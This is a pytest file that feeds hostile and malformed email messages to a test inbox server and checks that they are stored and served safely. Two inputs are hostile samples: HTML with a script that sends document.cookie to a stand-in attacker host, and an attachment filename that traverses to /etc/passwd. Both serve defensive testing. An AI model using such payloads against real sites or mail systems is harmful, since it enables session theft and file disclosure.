"""Hostile MIME through the real server: accepted, stored byte for byte, served as JSON in time.

Each message goes in over SMTP as raw bytes and comes back through the API. Every
case must be accepted with 250, read back with 200 as JSON that survives UTF-8
encoding, served raw exactly as it was sent, and parsed well within a few
seconds, whatever it holds. The messages use CRLF everywhere, no line starting
with ".", and no line over 1,000 bytes, so smtplib sends them unchanged.
"""

from __future__ import annotations

import json
import re
import smtplib
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
import requests

from pytest_tempinbox.parsing.message import MAX_ATTACHMENTS
from pytest_tempinbox.server.inbox_server import InboxServer

from ..helpers import CLIENT_NAME

CRLF = b"\r\n"
# The parser's budget is 0.5 s; a read may take a little more, never seconds.
READ_LIMIT = 3.0
SENDER = "hostile@example.test"


def message(*lines: str | bytes) -> bytes:
    """Join lines with CRLF, ending with one, as a message travels over SMTP."""
    return CRLF.join(line.encode() if isinstance(line, str) else line for line in lines) + CRLF


@dataclass
class Served:
    """What the API answered for one hostile message."""

    server: InboxServer
    http: requests.Session
    url: str  # /api/messages/{address}/{id}
    message: dict[str, Any]
    raw: bytes  # as sent

    @property
    def defects(self) -> list[str] | None:
        """The message's ``defects``, or None while the server does not serve them yet."""
        defects: list[str] | None = self.message.get("defects")
        return defects

    def assert_defect(self, defect: str) -> None:
        """Check that ``defect`` is among the defects, if the server serves them."""
        if self.defects is not None:
            assert defect in self.defects, self.defects

    def attachment(self, index: int) -> requests.Response:
        """GET attachment ``index``."""
        return self.http.get(f"{self.url}/attachments/{index}", timeout=READ_LIMIT * 2)


@dataclass(frozen=True)
class Case:
    """A hostile message and what must hold for it beyond the common checks."""

    raw: bytes
    check: Callable[[Served], None]
    smtputf8: bool = False


def _to_quote(served: Served) -> None:
    assert served.message["to"] == []
    assert served.message["headers"]["to"] == ['"']
    served.assert_defect("header 'To' could not be parsed, served raw")


def _name_star(served: Served) -> None:
    assert served.message["text"] == "hi\n"
    assert served.message["attachments"] == []


def _cc_trailing_comma(served: Served) -> None:
    assert served.message["cc"] == [{"name": None, "email": "a@example.test"}]


def _bad_base64(served: Served) -> None:
    assert served.message["text"] == "see attached"
    [attachment] = served.message["attachments"]
    assert attachment["size"] == 3
    response = served.attachment(0)
    assert response.status_code == 200
    assert response.content == b"ABC"
    served.assert_defect("invalid base64 in part 2")


def _multipart_without_boundary(served: Served) -> None:
    assert served.message["text"] == "--b\nhello\n--b--\n"
    assert served.message["attachments"] == []
    served.assert_defect("multipart without boundary")


def _unknown_charset(served: Served) -> None:
    assert served.message["text"] == "caf\u00e9\n"
    served.assert_defect("unknown charset 'x-foo', decoded as UTF-8")


def _latin1_undeclared(served: Served) -> None:
    assert served.message["subject"] == "caf\u00e9"
    assert served.message["text"] == "caf\u00e9\n"
    served.assert_defect("undeclared 8-bit text in header 'Subject', decoded as latin-1")
    served.assert_defect("undeclared 8-bit text in the body, decoded as latin-1")


def _nul_bytes(served: Served) -> None:
    assert served.message["subject"] == "a\x00b"
    assert served.message["text"] == "x\x00y\n"
    served.assert_defect("NUL bytes in the message")


def _nested(depth: int) -> bytes:
    heads = [
        f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}"
        for level in range(depth)
    ]
    tails = [f"--b{level}--" for level in reversed(range(depth))]
    return message("Subject: deep", *heads, "Content-Type: text/plain", "", "deep 123456", *tails)


def _sixty_levels(served: Served) -> None:
    assert served.message["text"] == "deep 123456"
    assert served.message["codes"] == ["123456"]
    assert served.message["attachments"] == []
    assert served.defects in (None, [])


PARTS = 10_000


def _ten_thousand_parts(served: Served) -> None:
    # The text body is served however slow the machine is.
    assert served.message["text"] == "first"
    attachments = served.message["attachments"]
    # The parser lists 2,000 at most, fewer if its time budget ran out first.
    assert len(attachments) <= MAX_ATTACHMENTS
    assert [a["index"] for a in attachments] == list(range(len(attachments)))
    listed = len(attachments)
    defects = served.defects or []
    if listed == MAX_ATTACHMENTS:
        capped = f"attachments after #{MAX_ATTACHMENTS:,} not listed"
        assert f"more than {MAX_ATTACHMENTS:,} attachments: {capped}" in defects
    elif f"attachments after #{listed:,} not listed" not in defects[0]:
        # The clock ran out while the message was still being read (a slow
        # machine): every part read to its end is listed, the one being read not.
        read = re.search(r"message read only to byte ([\d,]+) of", defects[0])
        assert read is not None, defects
        opened = served.raw[: int(read[1].replace(",", ""))].count(b"\r\n--b\r\n")
        assert listed == opened - 2, defects  # not "first", not the unfinished one
    if not attachments:
        return  # the clock ran out before the parts were sorted (a very slow machine)
    assert attachments[-1]["filename"] == f"p{listed}"
    last = served.attachment(listed - 1)
    assert last.status_code == 200
    assert last.content == b"x"


ADDRESSES = 4000


def _long_header(served: Served) -> None:
    recipients = [f"user{index:04d}@example.test" for index in range(ADDRESSES)]
    assert served.message["headers"]["to"] == [", ".join(recipients)]
    read = [a["email"] for a in served.message["to"]]
    if served.defects:
        # A machine several times slower than usual runs out of the parse
        # budget here (the parse takes about a fifth of it): what is read is
        # served, and the defect says how much.
        assert 0 < len(read) < ADDRESSES
        cut = f"addresses in header 'To' after the first {len(read):,} not read"
        assert cut in served.defects[0]
        recipients = recipients[: len(read)]
    assert read == recipients


def _path_filename(served: Served) -> None:
    [attachment] = served.message["attachments"]
    assert attachment["filename"] == "../../etc/passwd"
    response = served.attachment(0)
    assert response.status_code == 200
    assert response.content == b"root:x:0:0"  # the line break belongs to the boundary
    disposition = response.headers["content-disposition"]
    assert disposition == "attachment; filename=\"passwd\"; filename*=UTF-8''passwd"


SCRIPT_HTML = (
    "<p>Hi</p><script>document.location='https://evil.test/steal?'+document.cookie</script>"
    '<a href="javascript:alert(1)">click</a><a href="JaVaScRiPt:alert(2)">again</a>'
    '<a href="https://example.test/ok">ok</a><img src=x onerror="alert(3)">'
)


def _html_script(served: Served) -> None:
    assert served.message["html"] == SCRIPT_HTML + "\n"
    assert served.message["links"] == ["https://example.test/ok"]
    assert not any("javascript:" in link.lower() for link in served.message["links"])


def _empty(served: Served) -> None:
    assert served.message["size"] == 0
    assert served.message["subject"] == ""
    assert served.message["from"] is None
    assert served.message["headers"] == {}
    assert served.defects in (None, [])


def _headers_only(served: Served) -> None:
    assert served.message["subject"] == "only headers"
    assert served.message["text"] == ""
    assert served.message["attachments"] == []
    assert served.defects in (None, [])


CASES = {
    "to-lone-quote": Case(message('To: "', "Subject: quote", "", "hi"), _to_quote),
    "content-type-name-star": Case(
        message("Content-Type: text/plain; name*", "", "hi"), _name_star
    ),
    "cc-trailing-comma": Case(message("Cc: a@example.test,", "", "hi"), _cc_trailing_comma),
    "bad-base64": Case(
        message(
            "Content-Type: multipart/mixed; boundary=b",
            "",
            "--b",
            "",
            "see attached",
            "--b",
            "Content-Type: application/octet-stream",
            "Content-Transfer-Encoding: base64",
            "",
            "QUJD!!R",
            "--b--",
        ),
        _bad_base64,
    ),
    "multipart-without-boundary": Case(
        message("Content-Type: multipart/mixed", "", "--b", "hello", "--b--"),
        _multipart_without_boundary,
    ),
    "unknown-charset": Case(
        message("Content-Type: text/plain; charset=x-foo", "", "caf\u00e9"), _unknown_charset
    ),
    "undeclared-latin-1": Case(
        message(b"Subject: caf\xe9", b"", b"caf\xe9"), _latin1_undeclared, smtputf8=True
    ),
    "nul-bytes": Case(message(b"Subject: a\x00b", b"", b"x\x00y"), _nul_bytes, smtputf8=True),
    "sixty-nested-multiparts": Case(_nested(60), _sixty_levels),
    "ten-thousand-parts": Case(
        message(
            "Content-Type: multipart/mixed; boundary=b",
            "",
            "--b",
            "",
            "first",
            *(
                f"--b\r\nContent-Type: application/x\r\nContent-Disposition: attachment;"
                f" filename=p{index}\r\n\r\nx"
                for index in range(1, PARTS)
            ),
            "--b--",
        ),
        _ten_thousand_parts,
    ),
    "100-kib-header": Case(
        message(
            "To: " + ",\r\n ".join(f"user{index:04d}@example.test" for index in range(ADDRESSES)),
            "",
            "",
        ),
        _long_header,
    ),
    "path-in-filename": Case(
        message(
            "Content-Type: multipart/mixed; boundary=b",
            "",
            "--b",
            "Content-Type: text/plain",
            'Content-Disposition: attachment; filename="../../etc/passwd"',
            "",
            "root:x:0:0",
            "--b--",
        ),
        _path_filename,
    ),
    "html-with-script": Case(
        message("Content-Type: text/html; charset=utf-8", "", SCRIPT_HTML), _html_script
    ),
    "empty-message": Case(b"", _empty),
    "headers-only": Case(b"Subject: only headers\r\n", _headers_only),
}


def _send(server: InboxServer, address: str, raw: bytes, smtputf8: bool) -> None:
    with smtplib.SMTP(server.smtp_host, server.smtp_port, local_hostname=CLIENT_NAME) as client:
        if raw:
            options = ["SMTPUTF8"] if smtputf8 else []
            refused = client.sendmail(SENDER, [address], raw, mail_options=options)
            assert refused == {}
            return
        # sendmail() would end an empty message with a line break; send no byte at all.
        client.ehlo()
        assert client.mail(SENDER)[0] == 250
        assert client.rcpt(address)[0] == 250
        client.putcmd("data")
        assert client.getreply()[0] == 354
        client.send(b".\r\n")
        code, reply = client.getreply()
        assert code == 250, reply


def _get_json(http: requests.Session, url: str) -> Any:
    started = time.monotonic()
    response = http.get(url, timeout=READ_LIMIT * 2)
    elapsed = time.monotonic() - started
    assert response.status_code == 200, response.text[:500]
    assert elapsed < READ_LIMIT, f"GET {url} took {elapsed:.2f} s"
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    body = response.json()
    # Strict UTF-8 on the wire, and no lone surrogate inside the strings either.
    assert json.loads(response.content.decode("utf-8")) == body
    json.dumps(body, ensure_ascii=False).encode("utf-8")
    return body


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in (*_strings(key), *_strings(item))]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


@pytest.mark.parametrize("case", list(CASES.values()), ids=list(CASES))
def test_hostile_message_is_stored_and_served(
    case: Case, server: InboxServer, http: requests.Session, address: str
) -> None:
    raw = case.raw
    # Nothing for smtplib to change: no dot to stuff, no bare CR or LF.
    assert not raw.startswith(b".")
    assert b"\n." not in raw
    assert raw.count(b"\n") == raw.count(b"\r") == raw.count(CRLF)
    assert all(len(line) < 998 for line in raw.split(CRLF))

    _send(server, address, raw, case.smtputf8)

    inbox = f"{server.api_url}/messages/{address}"
    [listed] = _get_json(http, inbox)
    url = f"{inbox}/{listed['id']}"
    assert _get_json(http, url) == listed
    assert listed["size"] == len(raw)

    response = http.get(f"{url}/raw", timeout=READ_LIMIT * 2)
    assert response.status_code == 200
    assert response.headers["content-type"] == "message/rfc822"
    assert response.content == raw

    for attachment in listed["attachments"]:
        assert attachment["filename"] is None or isinstance(attachment["filename"], str)
    if "defects" in listed:
        assert len(listed["defects"]) <= 20
        assert all(isinstance(defect, str) and defect for defect in listed["defects"])
    for text in _strings(listed):
        text.encode("utf-8")

    case.check(Served(server, http, url, listed, raw))
